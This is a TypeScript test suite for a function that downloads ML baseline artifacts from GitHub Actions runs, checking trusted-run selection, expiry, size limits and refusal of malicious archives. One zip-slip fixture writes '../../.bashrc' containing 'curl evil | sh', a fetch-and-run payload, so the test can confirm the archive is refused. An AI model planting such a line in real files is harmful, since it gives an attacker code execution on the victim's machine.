import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { artifactBaseline } from '../../src/github/artifact-baseline.js';
import { makeZip } from './zip-writer.js';
import { FakeGateway } from './fake-gateway.js';

const dest = () => join(mkdtempSync(join(tmpdir(), 'mld-art-')), 'run');
const zipOf = (accuracy: number) => makeZip([{ name: 'metrics.json', data: JSON.stringify({ test: { accuracy } }) }]);
const request = (over: Partial<Parameters<typeof artifactBaseline>[1]> = {}) => ({ workflow: 'baseline.yml', branch: 'main', artifactName: 'ml-artifacts', dest: dest(), maxZipBytes: 1024 ** 2, ...over });

describe('artifactBaseline', () => {
  it('extracts the named artifact of the latest successful run on the branch', async () => {
    const gw = new FakeGateway();
    gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.8));
    const newest = gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.9));
    const r = await artifactBaseline(gw, request());
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.run.id).toBe(newest.id);
    expect(r.source.kind).toBe('artifact');
    expect(r.source.list()).toEqual(['metrics.json']);
    expect(JSON.parse(r.source.read('metrics.json'))).toEqual({ test: { accuracy: 0.9 } });
  });

  it('never takes a fork’s or a pull request’s run, even on a branch called main', async () => {
    const gw = new FakeGateway();
    const trusted = gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.9));
    gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.1), { event: 'pull_request', headRepo: 'mallory/ml' });
    gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.1), { event: 'push', headRepo: 'mallory/ml' });
    const r = await artifactBaseline(gw, request());
    expect(r.ok && r.run.id).toBe(trusted.id);
  });

  it('refuses an archive holding a file and then a directory of the same name, so the chain can fall back', async () => {
    const gw = new FakeGateway();
    gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', makeZip([{ name: 'a', data: 'x' }, { name: 'a/b', data: 'y' }]));
    const req = request();
    const r = await artifactBaseline(gw, req);
    expect(r).toMatchObject({ ok: false, refused: true, reason: expect.stringMatching(/entry 'a\/b' could not be extracted \(E(EXIST|NOTDIR)\)$/) as string });
    expect(existsSync(req.dest)).toBe(false);
  });

  it('skips runs whose artifact expired or is named differently', async () => {
    const gw = new FakeGateway();
    const good = gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.9));
    const expired = gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.5));
    gw.artifacts.set(expired.id, gw.artifacts.get(expired.id)!.map((a) => ({ ...a, expired: true })));
    gw.addBaselineRun('baseline.yml', 'main', 'other-name', zipOf(0.5));
    const r = await artifactBaseline(gw, request());
    expect(r.ok && r.run.id).toBe(good.id);
  });

  it('says that no successful run exists when the workflow never ran on the branch', async () => {
    const r = await artifactBaseline(new FakeGateway(), request());
    expect(r).toEqual({ ok: false, refused: false, reason: "artifact 'ml-artifacts' of workflow baseline.yml on main: no successful run of the workflow on main outside pull requests" });
  });

  it('says which runs lacked the artifact', async () => {
    const gw = new FakeGateway();
    gw.addBaselineRun('baseline.yml', 'main', 'model-weights', zipOf(0.9));
    const r = await artifactBaseline(gw, request());
    expect(!r.ok && r.reason).toBe("artifact 'ml-artifacts' of workflow baseline.yml on main: none of the last 1 successful run(s) has an unexpired artifact named 'ml-artifacts'");
  });

  it('refuses a zip-slip archive, names the entry and leaves nothing behind', async () => {
    const gw = new FakeGateway();
    const run = gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', makeZip([{ name: 'metrics.json', data: '{}' }, { name: '../../.bashrc', data: 'curl evil | sh' }]));
    const req = request();
    const r = await artifactBaseline(gw, req);
    expect(r).toEqual({
      ok: false,
      refused: true,
      reason: `artifact 'ml-artifacts' of workflow baseline.yml on main (run ${run.id}, commit ${'a'.repeat(12)}) was refused: entry '../../.bashrc' points outside the extraction directory ('..' in its path)`,
    });
    expect(existsSync(req.dest)).toBe(false);
  });

  it('refuses to download a zip larger than the limit', async () => {
    const gw = new FakeGateway();
    gw.addBaselineRun('baseline.yml', 'main', 'ml-artifacts', zipOf(0.9));
    const r = await artifactBaseline(gw, request({ maxZipBytes: 10 }));
    expect(!r.ok && r.refused && r.reason).toMatch(/the zip is \d+ bytes, above the 10 bytes download limit$/);
    expect(gw.count('downloadArtifact')).toBe(0);
  });
});
